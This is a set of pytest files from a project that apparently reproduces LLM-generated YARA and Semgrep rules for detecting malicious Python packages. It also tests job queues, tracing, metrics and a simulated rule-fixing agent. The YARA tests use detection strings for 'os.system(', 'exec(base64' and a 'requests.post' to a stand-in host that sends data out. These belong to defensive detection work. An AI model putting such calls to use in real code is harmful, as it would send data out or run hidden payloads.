            assert again.version.cache_key == first.version.cache_key

    def test_corpus_change_invalidates_checkpoints(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            registry = RulesetRegistry(store=store)
            with pytest.raises(SimulatedCrash):
                self._orchestrator(store, registry, crash_after=1).run(
                    _corpus(8), publish="merged", label="fleet"
                )
            # a different corpus is a different run_key: nothing resumes
            changed = [_pkg("new-pkg", "import socket\n")] + _corpus(7)
            fleet = self._orchestrator(store, registry).run(
                changed, publish="merged", label="fleet", resume=True
            )
            assert fleet.resumed == []
            assert fleet.version is not None
