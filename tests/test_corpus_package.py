"""Tests for the package model (repro.corpus.package)."""

import pytest

from repro.corpus.package import BENIGN, MALWARE, Package, PackageFile, PackageMetadata, partition_by_label


def make_package(label=BENIGN):
    metadata = PackageMetadata(name="demo", version="1.0.0", summary="demo pkg")
    return Package(
        name="demo",
        version="1.0.0",
        metadata=metadata,
        files=[
            PackageFile("setup.py", "from setuptools import setup\nsetup()\n"),
            PackageFile("demo/__init__.py", "x = 1\n# comment\n"),
        ],
        label=label,
    )


def test_identifier_combines_name_and_version():
    assert make_package().identifier == "demo==1.0.0"


def test_label_validation():
    with pytest.raises(ValueError):
        Package(name="x", version="1", metadata=PackageMetadata(name="x"), label="weird")


def test_is_malicious_flag():
    assert make_package(MALWARE).is_malicious
    assert not make_package(BENIGN).is_malicious


def test_source_files_filters_python():
    pkg = make_package()
    pkg.add_file("README.md", "# readme")
    assert {f.path for f in pkg.source_files} == {"setup.py", "demo/__init__.py"}


def test_add_file_rejects_duplicates():
    pkg = make_package()
    with pytest.raises(ValueError):
        pkg.add_file("setup.py", "again")


def test_loc_ignores_comments():
    pkg = make_package()
    # setup.py has 2 code lines, __init__.py has 1 (comment excluded)
    assert pkg.loc == 3


def test_all_text_concatenates_files():
    pkg = make_package()
    assert "setuptools" in pkg.all_text
    assert "x = 1" in pkg.all_text


def test_signature_stable_and_content_sensitive():
    a, b = make_package(), make_package()
    assert a.signature == b.signature
    b.files[1] = PackageFile("demo/__init__.py", "x = 2\n")
    assert a.signature != b.signature


def test_file_lookup():
    pkg = make_package()
    assert pkg.file("setup.py") is not None
    assert pkg.file("missing.py") is None


def test_partition_by_label():
    packages = [make_package(MALWARE), make_package(BENIGN), make_package(MALWARE)]
    malicious, benign = partition_by_label(packages)
    assert len(malicious) == 2 and len(benign) == 1


def test_metadata_json_roundtrip():
    metadata = PackageMetadata(name="demo", version="2.0", summary="s",
                               dependencies=["requests"], keywords=["k"])
    restored = PackageMetadata.from_json(metadata.to_json())
    assert restored == metadata


def test_pkg_info_contains_core_fields():
    metadata = PackageMetadata(name="demo", version="2.0", summary="s", author="Ada",
                               dependencies=["requests"], classifiers=["License :: OSI Approved"])
    text = metadata.to_pkg_info()
    assert "Name: demo" in text
    assert "Version: 2.0" in text
    assert "Requires-Dist: requests" in text
    assert "Classifier: License :: OSI Approved" in text


def test_setup_py_embeds_extra_body_before_setup_call():
    metadata = PackageMetadata(name="demo", version="2.0")
    rendered = metadata.to_setup_py(extra_body="import os\nos.getcwd()")
    assert rendered.index("os.getcwd()") < rendered.index("setup(")
    assert "name='demo'" in rendered
