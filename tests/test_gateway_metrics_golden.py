"""Golden test: the gateway's ``/metrics`` JSON must stay byte-stable.

``repro.gateway.metrics`` became a facade over :mod:`repro.obs.metrics`;
these strings were captured from the pre-facade implementation, so any
drift in bucket layout, quantile math, rounding, or key order — however
well-intentioned — fails here and must be an explicit decision.
"""

import json

from repro.gateway.metrics import LatencyHistogram, LatencyTracker
from repro.obs import get_registry

# captured from the original implementation (pre repro.obs), verbatim
_HIST_GOLDEN = (
    '{"buckets": [{"count": 2, "le": 0.001}, {"count": 1, "le": 0.002}, '
    '{"count": 2, "le": 0.004}, {"count": 1, "le": 0.032}, '
    '{"count": 1, "le": 0.256}, {"count": 1, "le": 2.048}], "count": 9, '
    '"max_seconds": 70.0, "mean_seconds": 7.975311, "overflow": 1, '
    '"p50_seconds": 0.0035, "p99_seconds": 69.59824, "sum_seconds": 71.7778}'
)
_TRACKER_GOLDEN = (
    '{"generate": {"buckets": [{"count": 1, "le": 2.048}], "count": 1, '
    '"max_seconds": 1.25, "mean_seconds": 1.25, "overflow": 0, '
    '"p50_seconds": 1.536, "p99_seconds": 2.03776, "sum_seconds": 1.25}, '
    '"scan": {"buckets": [{"count": 1, "le": 0.002}, {"count": 1, "le": 0.004}, '
    '{"count": 1, "le": 0.064}], "count": 3, "max_seconds": 0.05, '
    '"mean_seconds": 0.018667, "overflow": 0, "p50_seconds": 0.003, '
    '"p99_seconds": 0.06304, "sum_seconds": 0.056}}'
)
_EMPTY_GOLDEN = (
    '{"buckets": [], "count": 0, "max_seconds": 0.0, "mean_seconds": null, '
    '"overflow": 0, "p50_seconds": null, "p99_seconds": null, '
    '"sum_seconds": 0.0}'
)


class TestLatencyHistogramGolden:
    def test_histogram_json_is_byte_stable(self):
        histogram = LatencyHistogram()
        for seconds in (0.0005, 0.0012, 0.003, 0.0031, 0.02, 0.25, 1.5, 70.0, 0.0):
            histogram.observe(seconds)
        assert json.dumps(histogram.to_dict(), sort_keys=True) == _HIST_GOLDEN

    def test_empty_histogram_json_is_byte_stable(self):
        assert (
            json.dumps(LatencyHistogram().to_dict(), sort_keys=True)
            == _EMPTY_GOLDEN
        )


class TestLatencyTrackerGolden:
    def test_tenant_dict_is_byte_stable(self):
        tracker = LatencyTracker()
        for seconds in (0.002, 0.004, 0.05):
            tracker.observe("acme", "scan", seconds)
        tracker.observe("acme", "generate", 1.25)
        assert (
            json.dumps(tracker.tenant_dict("acme"), sort_keys=True)
            == _TRACKER_GOLDEN
        )
        assert tracker.tenant_dict("unknown") == {}

    def test_trackers_are_isolated_per_instance(self):
        # one gateway app == one tracker: another app's observations must
        # never leak into this app's JSON payload
        first, second = LatencyTracker(), LatencyTracker()
        first.observe("shared-tenant-name", "scan", 0.01)
        assert second.tenant_dict("shared-tenant-name") == {}

    def test_observations_mirror_into_the_global_registry(self):
        tenant = "golden-mirror-tenant"  # unique: the mirror family is global
        tracker = LatencyTracker()
        tracker.observe(tenant, "scan", 0.01)
        tracker.observe(tenant, "scan", 0.02)
        family = get_registry().get("repro_gateway_job_seconds")
        assert family is not None
        child = family.labels(tenant=tenant, kind="scan")
        counts, total, total_sum, observed_max = child.snapshot()
        assert total == 2
        assert round(total_sum, 6) == 0.03
        assert observed_max == 0.02
