"""Job-state-machine and queue semantics: queued -> running -> terminal,
cancellation at both stages, bounded history, graceful shutdown draining."""

from __future__ import annotations

import asyncio

import pytest

from repro.gateway.jobs import (
    CANCELLED,
    DONE,
    FAILED,
    QUEUED,
    RUNNING,
    Job,
    JobQueue,
)


def run(coro):
    return asyncio.run(coro)


async def started_queue(**kwargs) -> JobQueue:
    return await JobQueue(**kwargs).start()


class TestJobLifecycle:
    def test_submit_runs_to_done_with_result(self):
        async def main():
            queue = await started_queue()
            async def handler(job: Job) -> dict:
                return {"answer": 42}
            job = queue.submit("scan", "acme", handler, label="first")
            assert job.state == QUEUED
            job = await queue.wait(job.id, timeout=5)
            assert job.state == DONE
            assert job.result == {"answer": 42}
            assert job.started_at is not None and job.finished_at is not None
            assert job.seconds is not None
            await queue.shutdown()
        run(main())

    def test_handler_exception_fails_the_job_not_the_queue(self):
        async def main():
            queue = await started_queue()
            async def boom(job: Job) -> dict:
                raise ValueError("bad batch")
            failed = queue.submit("scan", "acme", boom)
            failed = await queue.wait(failed.id, timeout=5)
            assert failed.state == FAILED
            assert "ValueError: bad batch" in failed.error
            # the queue keeps serving
            async def ok(job: Job) -> dict:
                return {}
            good = await queue.wait(queue.submit("scan", "acme", ok).id, timeout=5)
            assert good.state == DONE
            await queue.shutdown()
        run(main())

    def test_non_dict_results_are_wrapped(self):
        async def main():
            queue = await started_queue()
            async def handler(job: Job):
                return 7
            job = await queue.wait(queue.submit("x", "t", handler).id, timeout=5)
            assert job.result == {"value": 7}
            await queue.shutdown()
        run(main())

    def test_job_ids_are_unique_and_kind_prefixed(self):
        async def main():
            queue = await started_queue()
            async def handler(job: Job) -> dict:
                return {}
            ids = [queue.submit(kind, "t", handler).id
                   for kind in ("scan", "generate", "scan")]
            assert len(set(ids)) == 3
            assert ids[0].startswith("scan-") and ids[1].startswith("generate-")
            await queue.shutdown()
        run(main())


class TestCancellation:
    def test_cancel_queued_job_is_immediate(self):
        async def main():
            queue = await started_queue(workers=1)
            release = asyncio.Event()
            async def blocker(job: Job) -> dict:
                await release.wait()
                return {}
            async def never(job: Job) -> dict:
                raise AssertionError("cancelled job must not run")
            queue.submit("scan", "t", blocker)
            await asyncio.sleep(0.01)  # let the worker pick up the blocker
            queued = queue.submit("scan", "t", never)
            assert queue.cancel(queued.id)
            waited = await queue.wait(queued.id, timeout=1)
            assert waited.state == CANCELLED
            release.set()
            await queue.shutdown()
        run(main())

    def test_cancel_running_job_interrupts_it(self):
        async def main():
            queue = await started_queue()
            entered = asyncio.Event()
            async def slow(job: Job) -> dict:
                entered.set()
                await asyncio.sleep(60)
                return {}
            job = queue.submit("scan", "t", slow)
            await asyncio.wait_for(entered.wait(), timeout=5)
            assert job.state == RUNNING
            assert queue.cancel(job.id)
            job = await queue.wait(job.id, timeout=5)
            assert job.state == CANCELLED
            assert job.cancel_requested
            # worker survives and serves the next job
            async def ok(job: Job) -> dict:
                return {}
            after = await queue.wait(queue.submit("scan", "t", ok).id, timeout=5)
            assert after.state == DONE
            await queue.shutdown()
        run(main())

    def test_cancel_finished_job_returns_false(self):
        async def main():
            queue = await started_queue()
            async def handler(job: Job) -> dict:
                return {}
            job = await queue.wait(queue.submit("scan", "t", handler).id, timeout=5)
            assert not queue.cancel(job.id)
            assert job.state == DONE  # unchanged
            await queue.shutdown()
        run(main())


class TestHistoryAndLookup:
    def test_terminal_history_is_bounded(self):
        async def main():
            queue = await started_queue(workers=1, history_limit=3)
            async def handler(job: Job) -> dict:
                return {}
            jobs = [queue.submit("scan", "t", handler) for _ in range(6)]
            for job in jobs:
                await queue.wait(job.id, timeout=5)
            remaining = queue.jobs()
            assert len(remaining) == 3
            assert [job.id for job in remaining] == [job.id for job in jobs[3:]]
            with pytest.raises(LookupError):
                queue.get(jobs[0].id)
            await queue.shutdown()
        run(main())

    def test_jobs_filter_by_tenant_and_counts(self):
        async def main():
            queue = await started_queue()
            async def handler(job: Job) -> dict:
                return {}
            a = queue.submit("scan", "acme", handler)
            b = queue.submit("scan", "umbrella", handler)
            await queue.wait(a.id, timeout=5)
            await queue.wait(b.id, timeout=5)
            assert [j.tenant for j in queue.jobs(tenant="acme")] == ["acme"]
            assert queue.counts() == {DONE: 2}
            await queue.shutdown()
        run(main())

    def test_wait_timeout_raises(self):
        async def main():
            queue = await started_queue()
            async def slow(job: Job) -> dict:
                await asyncio.sleep(60)
                return {}
            job = queue.submit("scan", "t", slow)
            with pytest.raises(TimeoutError):
                await queue.wait(job.id, timeout=0.05)
            queue.cancel(job.id)
            await queue.shutdown(drain=False)
        run(main())


class TestShutdown:
    def test_drain_finishes_inflight_and_queued_jobs(self):
        async def main():
            queue = await started_queue(workers=1)
            done_order: list[str] = []
            async def handler(job: Job) -> dict:
                await asyncio.sleep(0.01)
                done_order.append(job.id)
                return {}
            jobs = [queue.submit("scan", "t", handler) for _ in range(4)]
            await queue.shutdown(drain=True, timeout=10)
            assert [job.state for job in jobs] == [DONE] * 4
            assert done_order == [job.id for job in jobs]
        run(main())

    def test_shutdown_rejects_new_submissions(self):
        async def main():
            queue = await started_queue()
            await queue.shutdown()
            async def handler(job: Job) -> dict:
                return {}
            with pytest.raises(RuntimeError):
                queue.submit("scan", "t", handler)
        run(main())

    def test_no_drain_cancels_queued_and_running(self):
        async def main():
            queue = await started_queue(workers=1)
            entered = asyncio.Event()
            async def slow(job: Job) -> dict:
                entered.set()
                await asyncio.sleep(60)
                return {}
            running = queue.submit("scan", "t", slow)
            await asyncio.wait_for(entered.wait(), timeout=5)
            queued = queue.submit("scan", "t", slow)
            await queue.shutdown(drain=False)
            assert running.state == CANCELLED
            assert queued.state == CANCELLED
        run(main())

    def test_submit_before_start_is_an_error(self):
        queue = JobQueue()
        async def handler(job: Job) -> dict:
            return {}
        with pytest.raises(RuntimeError):
            queue.submit("scan", "t", handler)
