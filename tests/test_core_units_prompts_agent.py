"""Tests for basic-unit extraction, prompt rendering and the alignment agent."""

import pytest

from repro.core.agent import AgentMemory, AlignmentAgent, semgrep_compiler_tool, yara_compiler_tool
from repro.core.basic_units import extract_basic_units, interesting_units, split_basic_units
from repro.core.config import RuleLLMConfig
from repro.core.prompts import (
    render_craft_prompt,
    render_direct_prompt,
    render_fix_prompt,
    render_refine_prompt,
)
from repro.llm import protocol
from repro.llm.profiles import ORACLE
from repro.llm.simulated import SimulatedAnalystLLM

SOURCE = '''
import os

CONSTANT = 1


def first_function():
    return CONSTANT


class Thing:
    def method(self):
        return 2


for index in range(3):
    print(index)
'''


# -- basic units -------------------------------------------------------------------

def test_split_basic_units_finds_blocks():
    units = split_basic_units(SOURCE)
    assert any(unit.startswith("def first_function") for unit in units)
    assert any(unit.startswith("class Thing") for unit in units)
    assert any(unit.startswith("for index") for unit in units)


def test_split_basic_units_never_loses_code():
    units = split_basic_units(SOURCE)
    joined = "\n".join(units)
    for line in SOURCE.splitlines():
        if line.strip():
            assert line.strip() in joined


def test_split_basic_units_respects_size_cap():
    big = "def f():\n" + "    x = 'aaaaaaaaaaaaaaaa'\n" * 2000
    units = split_basic_units(big, max_chars=4000)
    assert all(len(unit) <= 4000 for unit in units)
    assert len(units) > 1


def test_split_basic_units_rejects_tiny_cap():
    with pytest.raises(ValueError):
        split_basic_units("x = 1", max_chars=10)


def test_split_empty_source():
    assert split_basic_units("   \n") == []


def test_extract_basic_units_from_package(malware_packages):
    units = extract_basic_units(malware_packages[0])
    assert units
    assert all(unit.package == malware_packages[0].identifier for unit in units)


def test_interesting_units_prefers_definitions():
    units = extract_basic_units(_fake_pkg())
    ordered = interesting_units(units)
    assert ordered[0].first_line.startswith(("def ", "class "))


def _fake_pkg():
    from repro.corpus.package import Package, PackageFile, PackageMetadata
    return Package(name="t", version="1", metadata=PackageMetadata(name="t"),
                   files=[PackageFile("t/mod.py", SOURCE)])


# -- prompts ------------------------------------------------------------------------

def test_craft_prompt_structure():
    request = render_craft_prompt("yara", ["code one", "code two"], metadata_json='{"name": "x"}')
    sections = protocol.parse_sections(request.full_text)
    assert protocol.first_section(sections, "TASK") == protocol.TASK_CRAFT
    assert protocol.first_section(sections, "FORMAT") == "yara"
    assert protocol.sections_with_prefix(sections, "SAMPLE") == ["code one", "code two"]
    assert protocol.first_section(sections, "METADATA")
    assert "YARA" in request.system_text
    assert "FEW_SHOT" in request.user_text


def test_direct_prompt_structure():
    request = render_direct_prompt("semgrep", "whole package source")
    sections = protocol.parse_sections(request.full_text)
    assert protocol.first_section(sections, "TASK") == protocol.TASK_DIRECT
    assert "Semgrep" in request.system_text


def test_refine_prompt_contains_rules():
    request = render_refine_prompt("yara", "analysis", ["rule a {}", "rule b {}"])
    sections = protocol.parse_sections(request.full_text)
    assert protocol.sections_with_prefix(sections, "RULE") == ["rule a {}", "rule b {}"]
    assert protocol.first_section(sections, "ANALYSIS") == "analysis"


def test_fix_prompt_contains_errors():
    request = render_fix_prompt("yara", "rule text", ["error one", "error two"])
    sections = protocol.parse_sections(request.full_text)
    assert protocol.sections_with_prefix(sections, "ERROR") == ["error one", "error two"]
    assert "syntactically correct" in request.system_text


# -- agent memory and tools ---------------------------------------------------------------

def test_agent_memory_is_bounded_to_two_messages():
    memory = AgentMemory(capacity=2)
    for index in range(5):
        memory.observe(f"error {index}")
    assert memory.recall() == ["error 3", "error 4"]
    memory.clear()
    assert len(memory) == 0


def test_compiler_tools_report_errors():
    ok, error = yara_compiler_tool('rule x { strings: $a = "v" condition: $a }')
    assert ok and error is None
    ok, error = yara_compiler_tool('rule x { strings: $a = "v" condition: $b }')
    assert not ok and "undefined" in error
    ok, error = semgrep_compiler_tool("rules:\n  - id: a\n    languages: [python]\n    message: m\n    pattern: f()\n")
    assert ok
    ok, error = semgrep_compiler_tool("not yaml rules")
    assert not ok and error


def test_agent_fixes_broken_rule_within_attempt_budget():
    agent = AlignmentAgent(SimulatedAnalystLLM(ORACLE), max_attempts=5)
    broken = 'rule x\n{\n    strings:\n        $a = "v"\n    condition:\n        $a and $missing\n}\n'
    outcome = agent.align(broken, "yara")
    assert outcome.success
    assert 1 <= outcome.attempts <= 5
    ok, _ = yara_compiler_tool(outcome.rule_text)
    assert ok


def test_agent_passes_through_valid_rule_without_llm_calls():
    provider = SimulatedAnalystLLM(ORACLE)
    agent = AlignmentAgent(provider, max_attempts=5)
    valid = 'rule ok { strings: $a = "v" condition: $a }'
    outcome = agent.align(valid, "yara")
    assert outcome.success and outcome.attempts == 0
    assert provider.stats.requests == 0


def test_agent_unknown_format_raises():
    agent = AlignmentAgent(SimulatedAnalystLLM(ORACLE))
    with pytest.raises(ValueError):
        agent.align("rule x {}", "snort")


def test_config_validation_and_presets():
    with pytest.raises(ValueError):
        RuleLLMConfig(basic_unit_max_chars=10)
    with pytest.raises(ValueError):
        RuleLLMConfig(cluster_similarity_threshold=0.0)
    alone = RuleLLMConfig.llm_alone()
    assert not alone.use_basic_units and not alone.use_alignment and not alone.use_refinement
    full = RuleLLMConfig.full()
    assert full.use_basic_units and full.use_alignment and full.use_refinement
