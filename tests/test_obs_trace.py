"""repro.obs tracing: span trees, context propagation across threads and
serialized carriers, the ring buffer and JSONL sink, and the disabled
tracer's shared no-op span."""

import json
import threading

import pytest

from repro.obs import (
    NULL_SPAN,
    SpanContext,
    Tracer,
    configure_tracing,
    disable_tracing,
    get_tracer,
    remote_span_record,
)


class TestSpanTrees:
    def test_nested_spans_share_one_trace(self):
        tracer = Tracer()
        with tracer.span("root"):
            with tracer.span("child"):
                with tracer.span("grandchild"):
                    pass
        records = tracer.spans()
        # innermost finishes first
        assert [r["name"] for r in records] == ["grandchild", "child", "root"]
        assert len({r["trace_id"] for r in records}) == 1
        by_name = {r["name"]: r for r in records}
        assert by_name["root"]["parent_id"] is None
        assert by_name["child"]["parent_id"] == by_name["root"]["span_id"]
        assert by_name["grandchild"]["parent_id"] == by_name["child"]["span_id"]

    def test_sibling_spans_reparent_on_the_root(self):
        tracer = Tracer()
        with tracer.span("root"):
            with tracer.span("first"):
                pass
            with tracer.span("second"):
                pass
        by_name = {r["name"]: r for r in tracer.spans()}
        assert by_name["first"]["parent_id"] == by_name["root"]["span_id"]
        assert by_name["second"]["parent_id"] == by_name["root"]["span_id"]

    def test_separate_roots_get_separate_traces(self):
        tracer = Tracer()
        with tracer.span("a"):
            pass
        with tracer.span("b"):
            pass
        assert len(tracer.trace_ids()) == 2

    def test_attrs_and_error_status(self):
        tracer = Tracer()
        with pytest.raises(RuntimeError):
            with tracer.span("boom", packages=3) as span:
                span.set_attr("extra", "x")
                raise RuntimeError("nope")
        (record,) = tracer.spans()
        assert record["status"] == "error"
        assert record["attrs"]["packages"] == 3
        assert record["attrs"]["extra"] == "x"
        assert "RuntimeError" in record["attrs"]["error"]
        assert record["seconds"] >= 0.0

    def test_explicit_parent_overrides_ambient(self):
        tracer = Tracer()
        other = SpanContext(trace_id="t" * 32, span_id="s" * 16)
        with tracer.span("ambient"):
            with tracer.span("adopted", parent=other):
                pass
        by_name = {r["name"]: r for r in tracer.spans()}
        assert by_name["adopted"]["trace_id"] == other.trace_id
        assert by_name["adopted"]["parent_id"] == other.span_id


class TestPropagation:
    def test_carrier_round_trip(self):
        tracer = Tracer()
        with tracer.span("root") as root:
            carrier = tracer.carrier()
            assert carrier == {
                "trace_id": root.trace_id,
                "span_id": root.span_id,
            }
            with tracer.span_from(carrier, "remote-child"):
                pass
        by_name = {r["name"]: r for r in tracer.spans()}
        assert by_name["remote-child"]["parent_id"] == by_name["root"]["span_id"]
        assert by_name["remote-child"]["trace_id"] == by_name["root"]["trace_id"]

    def test_span_from_without_carrier_starts_a_root(self):
        tracer = Tracer()
        with tracer.span_from(None, "fresh"):
            pass
        (record,) = tracer.spans()
        assert record["parent_id"] is None

    def test_activate_carries_context_to_worker_threads(self):
        # ThreadPoolExecutor workers do not inherit contextvars; the
        # orchestrator hands them the parent context explicitly
        tracer = Tracer()
        with tracer.span("root") as root:
            ctx = root.context

            def worker():
                with tracer.activate(ctx):
                    with tracer.span("thread-child"):
                        pass

            thread = threading.Thread(target=worker)
            thread.start()
            thread.join()
        by_name = {r["name"]: r for r in tracer.spans()}
        assert by_name["thread-child"]["parent_id"] == by_name["root"]["span_id"]
        assert by_name["thread-child"]["trace_id"] == by_name["root"]["trace_id"]

    def test_remote_span_record_builds_a_finished_child(self):
        carrier = {"trace_id": "t" * 32, "span_id": "s" * 16}
        record = remote_span_record(
            carrier, "scan.chunk", start_wall=123.456, seconds=0.25,
            attrs={"packages": 4},
        )
        assert record["trace_id"] == carrier["trace_id"]
        assert record["parent_id"] == carrier["span_id"]
        assert record["name"] == "scan.chunk"
        assert record["seconds"] == 0.25
        assert record["attrs"] == {"packages": 4}
        assert record["status"] == "ok"

    def test_remote_span_record_without_carrier_is_none(self):
        assert remote_span_record(None, "x", 0.0, 0.0) is None
        assert remote_span_record({}, "x", 0.0, 0.0) is None
        assert remote_span_record({"trace_id": "t"}, "x", 0.0, 0.0) is None

    def test_absorb_filters_junk(self):
        tracer = Tracer()
        good = remote_span_record(
            {"trace_id": "t" * 32, "span_id": "s" * 16}, "chunk", 0.0, 0.1
        )
        assert tracer.absorb([good, "junk", {"not": "a span"}, None]) == 1
        assert [r["name"] for r in tracer.spans()] == ["chunk"]


class TestRingAndSink:
    def test_ring_keeps_newest(self):
        tracer = Tracer(ring_size=4)
        for i in range(10):
            with tracer.span(f"s{i}"):
                pass
        assert [r["name"] for r in tracer.spans()] == ["s6", "s7", "s8", "s9"]

    def test_sink_appends_jsonl(self, tmp_path):
        sink = tmp_path / "spans.jsonl"
        tracer = Tracer(sink=str(sink))
        with tracer.span("outer"):
            with tracer.span("inner"):
                pass
        tracer.close()
        lines = sink.read_text(encoding="utf-8").splitlines()
        records = [json.loads(line) for line in lines]
        assert [r["name"] for r in records] == ["inner", "outer"]
        assert records[0]["trace_id"] == records[1]["trace_id"]

    def test_export_dumps_the_ring(self, tmp_path):
        tracer = Tracer()
        with tracer.span("only"):
            pass
        out = tmp_path / "dump.jsonl"
        assert tracer.export(str(out)) == 1
        (record,) = [
            json.loads(line) for line in out.read_text().splitlines()
        ]
        assert record["name"] == "only"

    def test_spans_filter_by_trace_id(self):
        tracer = Tracer()
        with tracer.span("a"):
            pass
        with tracer.span("b"):
            pass
        first, second = tracer.trace_ids()
        assert [r["name"] for r in tracer.spans(trace_id=first)] == ["a"]
        assert [r["name"] for r in tracer.spans(trace_id=second)] == ["b"]


class TestDisabledTracer:
    def test_disabled_span_is_the_shared_null_span(self):
        tracer = Tracer(enabled=False)
        span = tracer.span("anything", packages=1)
        assert span is NULL_SPAN
        assert not span
        assert span.context is None
        with span as inner:
            inner.set_attr("k", "v")  # must be a silent no-op
        assert tracer.spans() == []
        assert tracer.current_context() is None
        assert tracer.carrier() is None
        assert tracer.span_from({"trace_id": "t", "span_id": "s"}, "x") is NULL_SPAN

    def test_global_tracer_configure_and_disable(self, tmp_path):
        sink = tmp_path / "global.jsonl"
        try:
            tracer = configure_tracing(sink=str(sink), ring_size=8)
            assert tracer is get_tracer()
            assert tracer.enabled
            with tracer.span("configured"):
                pass
            assert [r["name"] for r in tracer.spans()] == ["configured"]
        finally:
            disable_tracing()
        assert not get_tracer().enabled
        assert get_tracer().spans() == []
        assert get_tracer().span("after") is NULL_SPAN
        # the sink got the span before shutdown
        assert "configured" in sink.read_text(encoding="utf-8")
        # disabling restored the default ring capacity: the ring_size=8
        # above must not cap the next tracing session
        assert get_tracer()._ring.maxlen == 4096
