"""Tests for YARA serialisation and the builder API."""

import pytest

from repro.yarax import compile_source, parse_source, serialize_rule
from repro.yarax.serializer import YaraRuleBuilder


def test_builder_produces_compilable_rule():
    source = (
        YaraRuleBuilder("demo_rule")
        .meta("description", "test rule")
        .text_string("os.system(", nocase=False)
        .regex_string(r"exec\(base64")
        .condition_any_of_them()
        .to_source()
    )
    ruleset = compile_source(source)
    assert ruleset.rule_names() == ["demo_rule"]


def test_builder_sanitises_rule_name():
    builder = YaraRuleBuilder("bad name-with.chars")
    assert builder.name.isidentifier()


def test_builder_n_of_them_condition():
    source = (
        YaraRuleBuilder("r")
        .text_string("a").text_string("b").text_string("c")
        .condition_n_of_them(2)
        .to_source()
    )
    assert "2 of them" in source
    compile_source(source)


def test_builder_default_condition_is_any_of_them():
    source = YaraRuleBuilder("r").text_string("x").to_source()
    assert "any of them" in source


def test_serialized_rule_round_trips_through_parser():
    source = (
        YaraRuleBuilder("roundtrip")
        .meta("description", 'quotes "inside" and \\ backslash')
        .meta("count", 3)
        .meta("flag", True)
        .text_string('path\\with\\backslash', nocase=True)
        .text_string('multi\nline')
        .condition_any_of_them()
        .to_source()
    )
    parsed = parse_source(source)[0]
    assert parsed.meta["count"] == 3
    assert parsed.meta["flag"] is True
    assert parsed.strings[0].value == "path\\with\\backslash"
    assert parsed.strings[1].value == "multi\nline"
    # serialising the parsed AST again produces identical text (fixed point)
    assert serialize_rule(parsed) == source


def test_escaped_strings_still_match_original_text():
    value = 'requests.post("https://x.example/api", json=data)'
    source = YaraRuleBuilder("escaping").text_string(value).condition_any_of_them().to_source()
    ruleset = compile_source(source)
    assert ruleset.match("prefix " + value + " suffix")


def test_builder_string_identifiers_are_unique():
    builder = YaraRuleBuilder("r").text_string("a").text_string("b").regex_string("c")
    identifiers = builder.string_identifiers
    assert len(identifiers) == len(set(identifiers)) == 3


def test_serialize_rule_requires_known_nodes():
    rule = parse_source('rule x { strings: $a = "v" condition: $a }')[0]
    rule.condition = object()  # type: ignore[assignment]
    with pytest.raises(TypeError):
        serialize_rule(rule)
