"""Edge cases of the RulesetRegistry event bus that the gateway's bridges
lean on: re-entrant listeners (events fire outside the registry lock),
unsubscribe during a publish callback, bounded subscriber error capture,
and namespace stamping on every event."""

from __future__ import annotations

from repro.scanserve.registry import PublishEvent, RulesetRegistry
from repro.yarax import compile_source


def _rules(name: str = "evt", needle: str = "event_needle") -> object:
    return compile_source(
        f'rule {name} {{ strings: $a = "{needle}" condition: $a }}'
    )


class TestListenerReentrancy:
    def test_events_fire_outside_the_registry_lock(self):
        """A listener may re-enter the registry; if ``_notify`` ran under
        ``_lock`` (non-reentrant), either call below would deadlock."""
        registry = RulesetRegistry()
        seen: list[tuple[str, list[int]]] = []

        def reentrant(event: PublishEvent) -> None:
            # both acquire the registry lock
            seen.append((event.kind, registry.versions()))
            assert registry._lock.acquire(blocking=False)
            registry._lock.release()

        registry.subscribe(reentrant)
        registry.publish(yara=_rules("a"))
        registry.publish(yara=_rules("b"), activate=False)
        registry.activate(2)
        assert [kind for kind, _ in seen] == ["publish", "publish", "activate"]
        # the version swap completes before listeners run
        assert seen[0][1] == [1]
        assert seen[1][1] == [1, 2]

    def test_listener_can_publish_from_a_callback(self):
        """The gateway's rescan bridge can trigger follow-on publishes."""
        registry = RulesetRegistry()
        kinds: list[str] = []

        def chaining(event: PublishEvent) -> None:
            kinds.append(event.kind)
            if len(registry.versions()) == 1:  # react to the first publish only
                registry.publish(yara=_rules("chained", "chained_needle"))

        registry.subscribe(chaining)
        registry.publish(yara=_rules("base"))
        assert kinds == ["publish", "publish"]
        assert registry.versions() == [1, 2]


class TestUnsubscribeDuringPublish:
    def test_self_unsubscribe_inside_a_callback(self):
        registry = RulesetRegistry()
        calls: list[int] = []
        token_box: list[int] = []

        def once(event: PublishEvent) -> None:
            calls.append(event.version.version)
            registry.unsubscribe(token_box[0])

        token_box.append(registry.subscribe(once))
        registry.publish(yara=_rules("a"))
        registry.publish(yara=_rules("b"))
        assert calls == [1]  # fired exactly once, removal took effect
        assert not registry.unsubscribe(token_box[0])  # already gone

    def test_unsubscribing_a_peer_mid_publish_does_not_break_fanout(self):
        """Mutating the subscriber table inside a callback must not disturb
        the in-flight fan-out (listeners are snapshotted per event)."""
        registry = RulesetRegistry()
        fired: list[str] = []
        tokens: dict[str, int] = {}

        def assassin(event: PublishEvent) -> None:
            fired.append("assassin")
            registry.unsubscribe(tokens["victim"])

        def victim(event: PublishEvent) -> None:
            fired.append("victim")

        tokens["assassin"] = registry.subscribe(assassin)
        tokens["victim"] = registry.subscribe(victim)
        registry.publish(yara=_rules("a"))
        # the victim still saw the event that was already in flight...
        assert fired == ["assassin", "victim"]
        registry.publish(yara=_rules("b"))
        # ...but none after its removal
        assert fired == ["assassin", "victim", "assassin"]


class TestSubscriberErrors:
    def test_broken_subscriber_does_not_kill_the_publish(self):
        registry = RulesetRegistry()
        survived: list[int] = []

        def broken(event: PublishEvent) -> None:
            raise RuntimeError("subscriber bug")

        registry.subscribe(broken)
        registry.subscribe(lambda event: survived.append(event.version.version))
        version = registry.publish(yara=_rules())
        assert version.version == 1  # publish succeeded
        assert survived == [1]  # later listeners still ran
        assert registry.subscriber_errors == ["RuntimeError: subscriber bug"]

    def test_subscriber_errors_stay_bounded(self):
        registry = RulesetRegistry()

        def broken(event: PublishEvent) -> None:
            raise ValueError(f"boom v{event.version.version}")

        registry.subscribe(broken)
        for i in range(25):
            registry.publish(yara=_rules(f"r{i}", f"needle_{i}"))
        assert len(registry.subscriber_errors) == 20  # bounded, keeps newest
        assert registry.subscriber_errors[-1] == "ValueError: boom v25"
        assert registry.subscriber_errors[0] == "ValueError: boom v6"


class TestNamespaceStamping:
    def test_namespace_appears_on_publish_and_activate_events(self):
        registry = RulesetRegistry(namespace="acme")
